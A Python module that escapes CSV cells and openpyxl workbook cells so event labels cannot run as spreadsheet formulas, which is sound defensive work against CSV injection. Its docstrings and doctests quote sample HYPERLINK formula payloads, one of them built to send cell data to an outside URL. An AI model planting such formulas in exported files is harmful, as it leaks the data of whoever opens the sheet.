"""Text that a spreadsheet must not run: formula-safe CSV columns and workbook cells.

An event name or label is free text from the user's calendar, and it reaches
every table evcal writes. A spreadsheet program that opens a CSV file runs a
cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
tab or carriage return) as a formula; ``=HYPERLINK("http://...?q="&A1, "click")``
then sends the sheet's data away. OWASP's guidance on CSV injection is the
rule used here:

* **CSV**: a text cell that begins with one of those characters gets a single
  quote ``'`` in front (:func:`guard_text`, applied to every text column by
  :func:`formula_safe_frame`). Numeric columns are never touched: a negative
  number stays a number. A text that itself begins with ``'`` gets one too, so
  :func:`unguard_text` (remove one leading quote) gives back exactly the text
  that was written, for any text.
* A text cell holding a carriage return would end the row early for every CSV
  reader, since Python's csv writer quotes only the characters of its line
  terminator: :func:`write_csv` then ends the file's lines with CRLF (RFC 4180),
  which makes the writer quote that cell. Other files keep LF line ends.
* **Workbooks**: text is stored as a text cell, never as a formula
  (:func:`formula_safe_cell` sets openpyxl's data type explicitly); the text
  reads the same, with no quote added. Characters that an .xlsx file cannot
  hold at all (XML 1.0 control characters) become U+FFFD instead of stopping
  the write.

One implementation for every writer: the plan and compare tables, the
workbook sheets, and the model folder's CSV files.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

#: first characters that make a spreadsheet read a CSV cell as a formula (OWASP, CSV injection)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: the prefix that makes such a cell plain text
QUOTE = "'"
#: what a character an .xlsx file cannot hold is replaced with
REPLACEMENT = "\ufffd"


def guard_text(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs as a formula.

    Examples
    --------
    >>> guard_text('=HYPERLINK("http://x.example","click")')
    '\\'=HYPERLINK("http://x.example","click")'
    >>> guard_text("-5 % promotion"), guard_text("spring-weekend")
    ("'-5 % promotion", 'spring-weekend')
    >>> guard_text("'quoted")  # escaped too, so unguard_text is an exact inverse
    "''quoted"
    """
    if text.startswith(FORMULA_TRIGGERS) or text.startswith(QUOTE):
        return QUOTE + text
    return text


def unguard_text(text: str) -> str:
    """The text :func:`guard_text` was given: one leading quote removed, when there is one.

    Examples
    --------
    >>> unguard_text("'=1+1"), unguard_text("plain")
    ('=1+1', 'plain')
    >>> unguard_text(guard_text("'x")) == "'x"
    True
    """
    return text[1:] if text.startswith(QUOTE) else text


def _is_text_column(series: pd.Series) -> bool:
    dtype = series.dtype
    return (pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)
            or isinstance(dtype, pd.CategoricalDtype))


def _any_text_starts(frame: pd.DataFrame, prefixes: tuple[str, ...]) -> bool:
    """Whether a column name or a text cell of ``frame`` starts with one of ``prefixes`` (vectorised)."""
    if any(str(c).startswith(prefixes) for c in frame.columns):
        return True
    for j in range(frame.shape[1]):
        col = frame.iloc[:, j]
        if isinstance(col.dtype, pd.CategoricalDtype):
            values = pd.Series(col.cat.categories)
        elif _is_text_column(col):
            values = col
        else:
            continue
        text = values[values.map(lambda v: isinstance(v, str))] if values.dtype == object else values
        if len(text) and bool(text.astype(str).str.startswith(prefixes).any()):
            return True
    return False


def _map_text(frame: pd.DataFrame, fn: Any, prefixes: tuple[str, ...]) -> pd.DataFrame:
    """``fn`` on every text cell and column name; ``fn`` changes only texts starting with ``prefixes``.

    Long tables (a panel's millions of key cells) mostly hold nothing to change:
    a vectorised look first keeps that case to one pass and a shallow copy.
    """
    if not _any_text_starts(frame, prefixes):
        return frame.copy(deep=False)
    out = frame.copy()
    for j in range(frame.shape[1]):
        series = frame.iloc[:, j]
        if not _is_text_column(series):
            continue  # numbers, dates, booleans: written as they are
        if isinstance(series.dtype, pd.CategoricalDtype):
            cats = series.cat.categories
            new = series.cat.rename_categories([fn(c) if isinstance(c, str) else c for c in cats]) \
                if len(cats) else series
        else:
            # only str values change: a number inside a mixed column stays a number
            new = series.map(lambda v: fn(v) if isinstance(v, str) else v, na_action="ignore")
            new = new.astype(series.dtype)
        out.isetitem(j, new)
    out.columns = _map_labels(frame.columns, fn)
    return out


def _map_labels(labels: pd.Index, fn: Any) -> pd.Index:
    if isinstance(labels, pd.MultiIndex):
        return labels
    return pd.Index([fn(c) if isinstance(c, str) else c for c in labels], name=labels.name)


def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names no spreadsheet runs as a formula.

    Every text (object, string or categorical) column gets :func:`guard_text`
    on each of its strings; numeric, date and boolean columns are unchanged.
    Use it on every frame just before ``to_csv``.

    Examples
    --------
    >>> frame = pd.DataFrame({"event": ["=1+1", "spring"], "lift_pct": [-18.5, 3.0]})
    >>> formula_safe_frame(frame)["event"].tolist(), formula_safe_frame(frame)["lift_pct"].tolist()
    (["'=1+1", 'spring'], [-18.5, 3.0])
    """
    return _map_text(frame, guard_text, (*FORMULA_TRIGGERS, QUOTE))


def _holds_cr(frame: pd.DataFrame) -> bool:
    def has_cr(v: object) -> bool:
        return isinstance(v, str) and "\r" in v

    return any(has_cr(c) for c in frame.columns) or any(
        any(has_cr(v) for v in frame.iloc[:, j])
        for j in range(frame.shape[1]) if _is_text_column(frame.iloc[:, j]))


def write_csv(frame: pd.DataFrame, target: Any, **to_csv: Any) -> None:
    """``frame.to_csv(target, **to_csv)`` with formula-safe text (every evcal CSV writer uses this).

    Parameters
    ----------
    frame : DataFrame
        The table; it is not modified.
    target : path or text buffer
        Where to write.
    **to_csv
        Passed to :meth:`pandas.DataFrame.to_csv` (``index``, ``float_format``, ...).

    Examples
    --------
    >>> import io
    >>> buf = io.StringIO()
    >>> write_csv(pd.DataFrame({"event": ["@x"], "lift_pct": [-2.5]}), buf, index=False)
    >>> buf.getvalue()
    "event,lift_pct\\n'@x,-2.5\\n"
    """
    safe = formula_safe_frame(frame)
    if "lineterminator" not in to_csv and _holds_cr(safe):
        to_csv["lineterminator"] = "\r\n"
    safe.to_csv(target, **to_csv)


def unguard_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The inverse of :func:`formula_safe_frame`, for a frame read back from an evcal CSV.

    Examples
    --------
    >>> frame = pd.DataFrame({"event": ["=1+1", "'q", "-"], "n": [-1, 2, 3]})
    >>> unguard_frame(formula_safe_frame(frame)).equals(frame)
    True
    """
    return _map_text(frame, unguard_text, (QUOTE,))


def workbook_text(text: str) -> str:
    """``text`` with the characters an .xlsx file cannot hold replaced by U+FFFD.

    Examples
    --------
    >>> workbook_text("a\\x00b")
    'a�b'
    """
    return ILLEGAL_CHARACTERS_RE.sub(REPLACEMENT, text)


def formula_safe_cell(cell: Any) -> Any:
    """Make an openpyxl cell holding text a text cell (never a formula); returns the cell.

    openpyxl reads any string that begins with ``=`` as a formula; setting the
    data type to ``"s"`` after the value stores it as the text it is.

    Examples
    --------
    >>> from openpyxl import Workbook
    >>> ws = Workbook().active
    >>> ws["A1"] = '=HYPERLINK("http://x.example","click")'
    >>> ws["A1"].data_type, formula_safe_cell(ws["A1"]).data_type
    ('f', 's')
    """
    value = cell.value
    if isinstance(value, str):
        clean = workbook_text(value)
        if clean != value:
            cell.value = clean
        cell.data_type = "s"
    return cell


def formula_safe_sheet(cells: Iterable[Any]) -> None:
    """:func:`formula_safe_cell` on every cell of ``cells`` (a worksheet's rows, or one row).

    Examples
    --------
    >>> from openpyxl import Workbook
    >>> ws = Workbook().active
    >>> ws.append(["=1+1", 2.0])
    >>> formula_safe_sheet(ws.iter_rows())
    >>> [c.data_type for c in ws[1]]
    ['s', 'n']
    """
    for item in cells:
        if isinstance(item, tuple | list):
            for cell in item:
                formula_safe_cell(cell)
        else:
            formula_safe_cell(item)
